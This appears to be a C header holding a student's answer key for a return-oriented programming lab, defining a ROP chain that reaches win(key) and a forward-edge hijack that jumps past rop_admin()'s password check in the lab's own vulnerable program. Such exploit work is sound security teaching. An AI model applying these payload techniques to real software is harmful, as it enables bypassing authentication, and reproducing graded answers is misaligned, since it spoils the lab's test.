/* SPDX-License-Identifier: MIT */
/*
 * Your answers to the ROP lab (docs/labs/rop.md §8, §9), checked by
 * /bin/rop's answer_* cases (make test, make grade LAB=7). Each is a SPEC:
 * 8-byte words at byte offsets of the payload, "OFF=WORD,OFF=WORD", a
 * WORD a number or win, rop_gadget or rop_admin with an optional +N
 * (bytes); the bytes between are filler. Try one first with
 * `rop answer SPEC` and `rop fwd SPEC [on]`.
 *
 * ROP_ANSWER_CHAIN: exercise 2's chain for this tree's variant (its
 * layout and win's key: `rop` prints them), reaching win(key) through
 * rop_gadget. ROP_ANSWER_FWD: exercise 7's forward-edge hijack, a notice
 * whose report pointer lands past rop_admin()'s password check.
 */
#ifndef USER_ROP_ANSWER_H
#define USER_ROP_ANSWER_H

#if defined(__x86_64__)
#define ROP_ANSWER_CHAIN "40=rop_gadget,48=0x524f505f4b455921,56=win"
#define ROP_ANSWER_FWD "32=rop_admin+19"
#else
#define ROP_ANSWER_CHAIN "40=rop_gadget,48=0x524f505f4b455921,56=win"
#define ROP_ANSWER_FWD "32=rop_admin+16"
#endif

#endif
